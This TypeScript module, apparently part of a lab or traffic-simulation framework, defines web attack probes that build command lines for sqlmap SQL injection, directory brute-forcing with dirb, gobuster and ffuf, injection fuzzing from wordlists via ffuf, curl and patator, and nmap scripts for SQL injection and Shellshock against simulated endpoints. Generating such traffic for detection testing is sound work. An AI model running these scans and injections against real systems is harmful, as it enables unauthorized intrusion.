import type {Attack, Scene} from "../configuration.ts";

function probe(
  service: "http" | "https",
  tool: string,
  needs: string,
  seconds: number,
  argv: (url: string, scene: Scene) => string[]
): Attack {
  return {
    label: "WebAttack",
    tool,
    needs: [needs],
    against: [service],
    plan(scene) {
      const {address, port} = scene.endpoints[service];
      return {commands: [argv(`${service}://${address}:${port}`, scene)], seconds, to: [address], ports: [port]};
    }
  };
}

const sqlmap = (scene: Scene, ...rest: string[]) => {
  const output = `${scene.folder}/sqlmap-${scene.random.word(6)}`;
  return ["sqlmap", "--batch", "--flush-session", `--output-dir=${output}`, ...rest];
};

/** SQL injection. */
export const sqlmapItem = probe("http", "sqlmap-item", "sqlmap", 25, (url, s) =>
  sqlmap(s, "--level", "2", "-u", `${url}/app/item?id=3`)
);
export const sqlmapSearch = probe("http", "sqlmap-search", "sqlmap", 20, (url, s) =>
  sqlmap(s, "--level", "2", "--risk", "2", "--threads", "3", "-u", `${url}/app/search?q=a`)
);
export const sqlmapLogin = probe("https", "sqlmap-login", "sqlmap", 22, (url, s) =>
  sqlmap(
    s,
    "--threads",
    "3",
    "--random-agent",
    "--ignore-code",
    "401",
    "-u",
    `${url}/app/login`,
    "--data",
    "user=a&pass=b"
  )
);

/** Hidden paths. */
export const dirb = probe("http", "dirb", "dirb", 15, (url, s) => [
  "dirb",
  `${url}/`,
  `${s.folder}/paths`,
  "-S",
  "-w",
  "-N",
  "404"
]);
export const gobuster = probe("http", "gobuster", "gobuster", 15, (url, s) => [
  ...["gobuster", "dir", "-q", "-t", "6", "-u", `${url}/`, "-w", `${s.folder}/paths`]
]);
export const gobusterTls = probe("https", "gobuster-tls", "gobuster", 15, (url, s) => [
  ...["gobuster", "dir", "-q", "-k", "-t", "4", "-u", `${url}/app/`, "-w", `${s.folder}/paths`]
]);
export const ffuf = probe("http", "ffuf", "ffuf", 15, (url, s) => [
  "ffuf",
  "-s",
  "-t",
  "5",
  "-u",
  `${url}/FUZZ`,
  "-w",
  `${s.folder}/paths`
]);

/** Injections from a list. */
export const ffufInject = probe("https", "ffuf-inject", "ffuf", 15, (url, s) => [
  ...["ffuf", "-s", "-k", "-t", "4", "-u", `${url}/app/item?id=FUZZ`, "-w", `${s.folder}/injections.encoded`]
]);
export const curlInject = probe("http", "curl-inject", "curl", 18, (url, s) => {
  const loop = `while read -r line; do curl -s -G --data-urlencode "q=$line" ${url}/app/search -o /dev/null; done < ${s.folder}/injections`;
  return ["sh", "-c", loop];
});
export const patatorInject = probe("http", "patator-inject", "patator", 15, (url, s) => [
  ...[
    "patator",
    "http_fuzz",
    `url=${url}/app/item?id=FILE0`,
    `0=${s.folder}/injections`,
    "resolve=unused.example:192.0.2.1",
    "-t",
    "4",
    "-e",
    "_@@_:url"
  ]
]);
export const nmapHttp = probe("http", "nmap-http", "nmap", 22, (url) => {
  const {hostname, port} = new URL(url.replace(/:80$/, ":80/"));
  const scripts = "http-enum,http-sql-injection,http-shellshock,http-phpmyadmin-dir-traversal";
  return ["nmap", "-n", "-Pn", "-p", port || "80", "--script", scripts, "--script-timeout", "15s", hostname];
});
